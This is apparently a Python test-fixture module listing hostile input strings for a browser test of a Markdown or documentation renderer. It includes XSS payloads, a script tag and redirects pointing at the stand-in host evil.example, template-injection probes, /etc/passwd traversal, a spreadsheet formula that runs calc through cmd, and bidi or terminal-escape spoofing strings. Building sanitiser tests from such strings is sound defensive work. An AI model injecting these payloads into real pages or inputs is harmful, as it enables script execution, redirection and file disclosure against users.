"""Strings that try to be something else, for every field that a stream, a fixture or a plug-in can fill.

Each carries a call of `alert` or a fetch where it can, so that a browser test sees it act. `MARK` stands before those
that a search has to find.
"""

from __future__ import annotations

MARK = "Hexwort"

PAYLOADS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-split": "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "script-upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-end": "</script><script>alert(3)</script>",
    "json-end": '"}]}</script><script>alert(4)</script>',
    "image": '<img src=x onerror="alert(5)">',
    "svg": "<svg/onload=alert(6)>",
    "iframe": '<iframe src="javascript:alert(7)"></iframe>',
    "details": "<details open ontoggle=alert(8)>",
    "style": "<style>*{display:none}</style>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "attribute": '" onmouseover="alert(9)" x="',
    "attribute-single": "' autofocus onfocus='alert(10)",
    "javascript": "javascript:alert(11)",
    "data-address": "data:text/html,<script>alert(12)</script>",
    "link": "[click](javascript:alert(13))",
    "picture": "![x](https://evil.example/p.png)",
    "reference": '[x]: https://evil.example/ "t"\n\n[x]',
    "autolink": "<https://evil.example/auto>",
    "close-pre": "</pre></code></div></table><h1>out</h1>",
    "close-block": "</div>\n\n# out\n\n<div>",
    "close-title": "</title><script>alert(14)</script>",
    "close-textarea": "</textarea></style><script>alert(15)</script>",
    "comment": "<!-- --> --!> <!--",
    "cdata": "]]> <![CDATA[ x ]]>",
    "template": "{{ 7*7 }} {{ config }}",
    "template-tag": "{% raw %} {% include 'x' %} {# x #}",
    "dollar": "${7*7} <%= 7*7 %> #{7*7}",
    "fence": "```\n</code></pre><script>alert(16)</script>\n```",
    "tilde-fence": "~~~\n# out\n~~~",
    "snippet": '--8<-- "mkdocs.yml"',
    "attribute-list": "{: onclick=alert(17) .x #y }",
    "front-matter": "---\ntitle: owned\ntemplate: x.html\n---\n",
    "heading": "# out\n\nout\n===",
    "table": "| a | b |\n|---|---|\n| c | d |",
    "admonition": '!!! danger "out"\n    body',
    "entity": "&lt;b&gt; &#60;script&#62; &amp;amp;",
    "stash": "\x02wzxhzdk:0\x03 klzzwxh:0000",
    "escape": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example/\x07click\x1b]8;;\x07",
    "controls": "\x00\x01\x07\x08\x0b\x0c\x7f\x85",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "separators": "a\u2028b\u2029c\r\nd\re",
    "surrogate": "\ud83d alone \udc00",
    "zero-width": "a\u200bb\ufeffc\u00add",
    "long": "W" * 30_000,
    "long-line": "<b>" * 1_500,
    "path": "../../../../etc/passwd",
    "absolute": "/etc/passwd",
    "name": "con.aux\\..\\x?*:|",
    "percent": "%2e%2e%2f%3Cscript%3E",
    "formula": "=cmd|' /C calc'!A0",
    "empty": "",
    "blank": " \n\t ",
}


def marked(payload: str) -> str:
    """Puts the word that a search finds before a payload."""
    return f"{MARK} {payload}"
